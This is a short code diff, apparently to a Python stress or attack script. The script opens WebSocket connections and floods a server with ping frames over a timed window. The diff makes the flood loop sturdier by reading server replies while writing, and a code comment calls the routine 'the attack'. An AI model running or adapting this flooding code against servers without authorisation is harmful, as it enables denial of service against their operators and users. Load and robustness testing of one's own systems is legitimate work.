@@ -19,6 +19,7 @@ HANDSHAKE = (
     "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
 )
 PINGS = b"\x89\x80\0\0\0\0" * 10_000
+READ_SIZE = 1 << 20
 FLOOD = 3.0  # seconds
 
 Line = tuple[asyncio.StreamReader, asyncio.StreamWriter]
@@ -120,12 +121,11 @@ async def _flood(url: str, head: bytes) -> tuple[int, int]:
     while time.perf_counter() < end:
         reader, writer = await _open(url, head)
         sockets += 1
-        with suppress(ConnectionError):
+        with suppress(ConnectionError, asyncio.IncompleteReadError):
             await reader.readuntil(b"\r\n\r\n")
-            reading = asyncio.create_task(reader.read())
-            while time.perf_counter() < end and not reading.done():
+            while time.perf_counter() < end and not reader.at_eof():
                 writer.write(PINGS)
-                await writer.drain()
+                await asyncio.gather(writer.drain(), reader.read(READ_SIZE))
                 size += len(PINGS)
         writer.transport.abort()
         await asyncio.sleep(0.1)  # or the limit of requests would end the attack
